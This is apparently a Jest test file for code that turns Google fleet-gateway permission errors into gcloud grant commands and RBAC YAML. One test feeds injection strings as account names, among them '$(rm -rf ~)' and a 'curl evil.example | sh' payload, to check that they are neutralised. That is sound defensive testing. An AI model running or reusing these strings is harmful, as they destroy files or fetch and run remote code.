import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { googleError } from '../../google/__testUtils__/ScriptedServer';
import type { HttpFailure } from '../../google/problems';
import {
  ACCOUNT,
  attempt,
  denial,
  failure,
  impersonation,
} from '../__testUtils__/refusals';
import type { Attempt } from './attempt';
import { classifyGatewayError } from './classify';
import { ROLES } from './roles';

describe('remedies', () => {
  const remedy = (
    error: HttpFailure,
    changes: Partial<Attempt['reader']> = {},
  ) => classifyGatewayError(error, attempt(changes)).remedy ?? '';
  const noRight = failure(
    403,
    googleError(
      403,
      'PERMISSION_DENIED',
      "Permission 'gkehub.gateway.get' denied",
    ),
  );

  it('name the role and whom to give it', () => {
    expect(remedy(noRight)).toBe(
      `Grant the role that has gkehub.gateway.get: gcloud projects add-iam-policy-binding acme-fleet --role=roles/gkehub.gatewayReader --member=serviceAccount:${ACCOUNT} --condition=None`,
    );
    expect(remedy(noRight, { principal: undefined })).toBe(
      'Grant roles/gkehub.gatewayReader, which has gkehub.gateway.get, on project acme-fleet to the account that the portal uses',
    );
  });

  it('have the command that lets the agent act for the account', () => {
    expect(
      remedy(failure(403, impersonation('users', 'a@acme.com'))),
    ).toContain(
      'gcloud container fleet memberships generate-gateway-rbac --membership=dc1 --users=a@acme.com --role=clusterrole/backstage-anthos-fleet-reader --project=acme-fleet',
    );
    expect(
      remedy(failure(403, impersonation('groups', 'team@acme.com'))),
    ).toContain('--groups=team@acme.com');
  });

  it('have the RBAC to apply, for all that is read', () => {
    const yaml = remedy(failure(403, denial()));
    expect(yaml).toContain('resources: ["rootsyncs","reposyncs"]');
    expect(yaml).toContain('resources: ["namespaces","resourcequotas"]');
    expect(yaml).toContain(`kind: User, name: "${ACCOUNT}"`);
    expect(yaml).not.toContain('"create"');
  });

  it('have a rule of its own for a right that is not on the list', () => {
    const yaml = remedy(failure(403, denial('widgets', 'example.com')));
    expect(yaml).toContain(
      '- {apiGroups: ["example.com"], resources: ["widgets"], verbs: ["list"]}',
    );
  });

  it.each([
    'a"}\nrules: [all]',
    'a shell: $(rm -rf ~) `id` ; & | > <',
    'x\ny',
    '"; curl evil.example | sh; "',
  ])('never run what a cluster calls the account: %s', name => {
    const quoted = JSON.stringify(name).slice(1, -1);
    const yaml = remedy(
      failure(403, denial('rootsyncs', 'configsync.gke.io', quoted)),
    ).split('\n');
    expect(yaml).toHaveLength(
      remedy(failure(403, denial())).split('\n').length,
    );
    const [, user] = /^- \{.* name: (.*)\}$/.exec(yaml.at(-1) ?? '') ?? [];
    expect(JSON.parse(user)).toContain(name.slice(0, 1));
    const command = remedy(failure(403, impersonation('users', quoted)));
    expect(command.split(': gcloud ')[1]).toMatch(/^[\w @.:/=-]+$/);
  });

  it('stay short, however long the names are', () => {
    const name = 'a'.repeat(500_000);
    expect(
      remedy(failure(403, impersonation('users', name))).length,
    ).toBeLessThan(2_000);
    const problem = classifyGatewayError(
      failure(403, denial('rootsyncs', 'configsync.gke.io', name)),
      attempt(),
    );
    expect(problem.message.length).toBeLessThan(2_000);
    expect(problem.remedy?.length).toBeLessThan(2_000);
  });

  it.each(['reading', 'provisioning'] as const)(
    'have the rules that the documentation has for %s',
    purpose => {
      const docs = readFileSync(
        join(__dirname, '../../../../../docs/google-access.md'),
        'utf8',
      );
      const { name } = ROLES[purpose];
      const [, role = ''] = docs.split(`metadata: { name: ${name} }`);
      const documented = role
        .split('---')[0]
        .split('\n')
        .filter(line => line.startsWith('- {apiGroups'));
      const yaml = remedy(failure(403, denial('namespaces', '')), { purpose });
      expect(documented).not.toEqual([]);
      expect(
        yaml.split('\n').filter(line => line.includes('resources:')),
      ).toEqual(documented);
    },
  );
});
